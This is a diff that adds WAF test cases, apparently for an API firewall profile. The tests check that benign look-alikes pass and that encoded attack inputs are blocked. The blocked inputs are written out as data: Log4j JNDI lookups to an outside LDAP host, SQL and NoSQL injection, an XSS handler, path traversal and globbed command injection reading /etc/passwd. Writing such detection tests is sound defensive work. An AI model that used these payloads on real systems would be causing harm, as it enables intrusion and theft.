@@ -1609,3 +1609,75 @@ describe('waf API profile: session 9', () => {
     }
   });
 });
+
+describe('waf API profile: session 10', () => {
+  test('held-out 22-25 look-alikes: rule expressions, placeholders, tickers, persisted queries, Northwind filters', async () => {
+    const ok: unknown[] = [
+      { expression: 'applicant.age >= 25 && vehicle.year > 2010 && !(claims.count_5y > 2)' },
+      { note: 'Reading up on log4j ${jndi} mitigation and how ${ctx} names clash with ours' },
+      {
+        widget: {
+          html: '<marquee scrollamount="6">Welcome to our Toronto office! Fire drill at 14:00.</marquee>',
+        },
+      },
+      // A widget script's modulo (`%86400`) is no percent-encoding: no decoded view, no invalid UTF-8 (920250).
+      { config: 'var d = (s%86400)/3600; var h = (s%3600)/60; show(d, h);' },
+    ];
+    for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
+    const persisted = (variables: unknown): Init =>
+      getInit(
+        `/graphql?operationName=SearchPhotos&variables=${encodeURIComponent(JSON.stringify(variables))}` +
+          `&extensions=${encodeURIComponent('{"persistedQuery":{"version":1,"sha256Hash":"601fd7716a35"}}')}`,
+      );
+    assert.equal((await run(api, persisted({ q: 'select focus portrait' }))).error, undefined);
+    assert.equal((await run(plain, persisted({ q: 'select focus portrait' }))).error?.reason, 'waf:sqli');
+    assert.equal(
+      (await run(api, getInit('/jsonapi/reports?filter%5Bprogram%5D=northwind-cloud'))).error,
+      undefined,
+    );
+    const bad: unknown[] = [
+      { expression: 'a.b >= 1 && !(c.d = c.d)' },
+      { note: 'see ${jndi:ldap://203.0.113.5/a}' },
+      { note: 'harmless ${id} then \\u0024{jndi:ldap://203.0.113.5/a}' },
+      { note: 'harmless ${id} then &#36;{jndi:ldap://203.0.113.5/a}' },
+      { note: 'harmless ${id} then %24%7Bjndi:ldap://203.0.113.5/a%7D' },
+      { widget: { html: '<marquee onstart="alert(1)">x</marquee>' } },
+      { p: '..%25c0%25af..%25c0%25afetc/passwd' },
+    ];
+    for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
+    assert.ok((await run(api, persisted({ q: "x' union select password from users--" }))).error);
+    assert.ok((await run(api, persisted({ __proto__x: 1, a: { $where: 'sleep(5000)' } }))).error);
+    assert.ok((await run(api, getInit('/x?filter%5Bprogram%5D=northwind..dbo.users'))).error);
+  });
+
+  test('glob-named programs after a separator and Log4j lookups by any prefix are refused (90133, 90101/90114)', async () => {
+    for (const value of [
+      ';/bin/c?t /e??/p?ss??',
+      'x|/???/??t /???/??ss??',
+      '$(/b[i]n/ca? /etc/hostname)',
+      'ok && /usr/bin/wh?ami x',
+    ])
+      assert.equal(
+        (await run(api, post({ meta: { items: [{ convertArgs: value }] } }))).error?.reason,
+        'waf:rce',
+        value,
+      );
+    for (const value of ['exports go to reports; /search?q=1 finds them', 'pick a | /docs/*.md glob list'])
+      assert.equal((await run(api, post({ note: value }))).error, undefined, value);
+    const referer = (v: string): Init => ({
+      method: 'GET',
+      path: '/api/products',
+      query: 'category=denim',
+      headers: { ...ua, referer: v },
+    });
+    for (const v of [
+      'https://shop.example/${base64:JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuNy9hfQ==}',
+      'https://shop.example/${ k8s:containerName}',
+    ])
+      assert.ok((await run(api, referer(v))).error, v);
+    assert.ok((await run(api, post({ note: 'x ${bundle:app:secret}' }))).error);
+    // A compose file's default (`web:` is no lookup prefix there): the template rule stays quiet on it.
+    const compose = await run(api, post({ url: '${API_URL:-http://web:8080}' }));
+    assert.ok(!compose.events.some((e) => (e.fields.rule_ids as number[] | undefined)?.includes(90101)));
+  });
+});
